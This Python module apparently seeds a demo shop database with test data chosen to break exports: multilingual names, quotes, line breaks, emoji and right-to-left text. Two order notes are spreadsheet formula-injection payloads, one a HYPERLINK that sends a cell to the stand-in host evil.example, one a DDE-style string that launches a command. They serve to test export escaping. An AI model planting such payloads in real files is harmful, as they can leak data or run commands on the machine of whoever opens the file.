"""Generates a shop: the same one for the same numbers, with everything that makes exports go wrong.

People's names come in many scripts, and notes hold quotes, commas, line breaks, emoji, text from
right to left, nothing at all, and what a spreadsheet would take for a formula.
"""

from __future__ import annotations

import datetime as dt
import random
import uuid
from collections.abc import Iterable, Iterator
from decimal import Decimal
from itertools import islice
from typing import Any, Final, NamedTuple

import sqlalchemy as sa

from jobs.demo import tables

ORDERS: Final = 6_000
CUSTOMERS: Final = 1_500
PRODUCTS: Final = 120
FIRST_DAY: Final = dt.datetime(2025, 1, 1)  # noqa: DTZ001 - the shop's times are UTC without offset
DAYS: Final = 365
_ROWS_PER_INSERT: Final = 2_000

# given names and family names, with the country; in East Asia the family name stands first
_PEOPLE: Final = (
    ("DE", "Jürgen Zoë Björn Käthe Änne", "Müller Weiß Größl Öztürk Schröder"),
    ("FR", "Éloïse François Maëlle Noël", "Lefèvre Çelik D'Amboise Côté"),
    ("PL", "Łukasz Świętosława Żaneta Michał", "Wójcik Błaszczyk Źrebiec Dąbrowska"),
    ("VN", "Nguyễn Trần Đặng", "Thị-Hương Văn-Đức Ngọc-Ánh"),
    ("GR", "Ελένη Γιώργος Αθηνά", "Παπαδόπουλος Οικονόμου Αγγελοπούλου"),
    ("UA", "Олена Їжак Тарас Ганна", "Шевченко Ґонта Коваль"),  # noqa: RUF001 - it is Cyrillic
    ("BG", "Георги Цветелина Юлия", "Димитров Щерева Първанов"),
    ("EG", "محمد فاطمة يوسف ليلى", "الحسيني عبدالله النجار"),
    ("IL", "שירה אברהם נועה", "לוי כהן מזרחי"),
    ("IN", "प्रिया अर्जुन लक्ष्मी", "शर्मा त्रिपाठी कृष्णन"),
    ("CN", "王 李 欧阳", "小明 秀英 静怡"),
    ("JP", "佐藤 渡邉 髙橋", "さくら 健太郎 美咲"),
    ("KR", "김 이 박", "서연 민준 지우"),
    ("US", "Ada Grace O'Neil Mary-Jane", 'Lovelace Hopper "Buzz" Smith,Jr.'),
    ("BR", "João Conceição Luís", "Gonçalves Araújo 🌵Flores"),
)
_NOTES: Final = (
    'Please ring "twice", then wait',
    "Leave it with the neighbour, 3rd floor, left",
    "First line\nsecond line\r\nthird line",
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 30 901820 please call first",
    "-10% coupon was promised 🎟️",
    "Geschenk für Oma 🎁, bitte ohne Rechnung",
    "يرجى الاتصال قبل التسليم",
    "בבקשה לא לצלצל בשבת",
    "配達は午後にお願いします",
    "कृपया शाम को भेजें",
    "back\\slash, tab\there; semicolon",
    "  blanks around  ",
    "NULL",
    "",
)
_STATUS_WEIGHTS: Final = {
    "pending": 6,
    "paid": 10,
    "shipped": 14,
    "delivered": 60,
    "cancelled": 7,
    "refunded": 3,
}
_THINGS: Final = ("Umbrella", "Raincoat", "Wellies", "Torch", "Barometer", "Kite", "Tea, black")
_TRAITS: Final = ('12"', "navy", "Größe M", "防水", "XL, long", "№ 5", "☔ edition", "crème")


class Branch(NamedTuple):
    """A store of the shop and the person who runs it: ids as UUIDs in text."""

    store_id: str
    user_id: str
    name: str
    email: str


BRANCHES: Final = tuple(
    Branch(
        str(uuid.uuid5(uuid.NAMESPACE_DNS, f"store.{email}")),
        str(uuid.uuid5(uuid.NAMESPACE_DNS, f"user.{email}")),
        name,
        email,
    )
    for name, email in (
        ("StormCom Köln", "zoe@koeln.stormcom.example"),
        ("StormCom Αθήνα", "eleni@athens.stormcom.example"),
        ('StormCom "Outlet", Kraków', "lukasz@krakow.stormcom.example"),
    )
)
_MANAGERS: Final = ("Zoë Weiß", "Ελένη Παπαδοπούλου", "Łukasz Wójcik")
_CURRENCIES: Final = ("EUR", "EUR", "PLN")
# Most customers are the first store's, so that one export is much larger than the others.
_BRANCH_OF: Final = (0, 0, 0, 0, 0, 0, 0, 1, 1, 2)


def create_shop(
    connection: sa.Connection,
    *,
    orders: int = ORDERS,
    customers: int = CUSTOMERS,
    products: int = PRODUCTS,
    seed: int = 7,
) -> None:
    """Make the shop's tables and fill them, in the caller's transaction.

    orders, customers, products: how many (of products at least one for each store); memory does
        not grow with the orders
    seed: another number makes another shop
    """
    tables.metadata.create_all(connection)
    chance = random.Random(seed)
    _insert(connection, tables.stores, _stores())
    _insert(connection, tables.users, _users())
    _insert(connection, tables.customers, _customers(chance, customers))
    prices = [Decimal(chance.randrange(199, 29_900)) / 100 for _ in range(products)]
    _insert(connection, tables.products, _products(chance, prices))
    # Two walks through the same chances: an order and its items do not have to be kept together.
    again = random.Random(seed + 1)
    state = again.getstate()
    _insert(
        connection,
        tables.orders,
        (order for order, _ in _orders(again, orders, customers, prices)),
    )
    again.setstate(state)
    _insert(
        connection,
        tables.order_items,
        (item for _, items in _orders(again, orders, customers, prices) for item in items),
    )


def _insert(connection: sa.Connection, table: sa.Table, rows: Iterable[dict[str, Any]]) -> None:
    statement = sa.insert(table)
    coming = iter(rows)
    while chunk := list(islice(coming, _ROWS_PER_INSERT)):
        connection.execute(statement, chunk)


def _stores() -> Iterator[dict[str, Any]]:
    for branch, currency in zip(BRANCHES, _CURRENCIES, strict=True):
        yield {"id": branch.store_id, "name": branch.name, "currency": currency}


def _users() -> Iterator[dict[str, Any]]:
    for branch, name in zip(BRANCHES, _MANAGERS, strict=True):
        yield {
            "id": branch.user_id,
            "store_id": branch.store_id,
            "name": name,
            "email": branch.email,
        }


def _branch_of(customer: int) -> int:
    return _BRANCH_OF[customer % len(_BRANCH_OF)]


def _customers(chance: random.Random, count: int) -> Iterator[dict[str, Any]]:
    for number in range(1, count + 1):
        country, firsts, lasts = chance.choice(_PEOPLE)
        yield {
            "id": number,
            "store_id": BRANCHES[_branch_of(number)].store_id,
            "name": f"{chance.choice(firsts.split())} {chance.choice(lasts.split())}",
            "email": f"customer{number}@example.com",
            "country": country,
            "phone": None if chance.random() < 0.4 else f"+{chance.randrange(10**9, 10**11)}",
            "created_at": _some_time(chance, 0.2),
        }


def _products(chance: random.Random, prices: list[Decimal]) -> Iterator[dict[str, Any]]:
    for number, price in enumerate(prices, start=1):
        yield {
            "id": number,
            "store_id": BRANCHES[(number - 1) % len(BRANCHES)].store_id,
            "sku": f"SC-{number:04}",
            "name": f"{chance.choice(_THINGS)} {chance.choice(_TRAITS)}",
            "price": price,
            "stock": chance.randrange(0, 400),
            "active": chance.random() < 0.9,
        }


def _orders(
    chance: random.Random, count: int, customers: int, prices: list[Decimal]
) -> Iterator[tuple[dict[str, Any], list[dict[str, Any]]]]:
    statuses, weights = list(_STATUS_WEIGHTS), list(_STATUS_WEIGHTS.values())
    for number in range(1, count + 1):
        customer = chance.randrange(customers) + 1
        branch = _branch_of(customer)
        shelf = range(branch, len(prices), len(BRANCHES))
        items = []
        for line in range(1, chance.choice((1, 1, 1, 2, 2, 3, 4)) + 1):
            product = chance.choice(shelf)
            items.append(
                {
                    "order_id": number,
                    "line": line,
                    "product_id": product + 1,
                    "quantity": chance.choice((1, 1, 1, 2, 5)),
                    "price": prices[product],
                }
            )
        order = {
            "id": number,
            "store_id": BRANCHES[branch].store_id,
            # A guest's order has no customer.
            "customer_id": None if chance.random() < 0.05 else customer,
            "number": f"SC-2025-{number:06}",
            "status": chance.choices(statuses, weights)[0],
            "total": sum((item["quantity"] * item["price"] for item in items), Decimal()),
            "note": chance.choice(_NOTES) if chance.random() < 0.3 else None,
            "created_at": _some_time(chance, number / count),
        }
        yield order, items


def _some_time(chance: random.Random, share: float) -> dt.datetime:
    """A time around that share of the year, with milliseconds as browsers send them."""
    day = min(max(share * DAYS + chance.uniform(-2, 2), 0), DAYS - 0.001)
    return FIRST_DAY + dt.timedelta(milliseconds=int(day * 86_400_000))
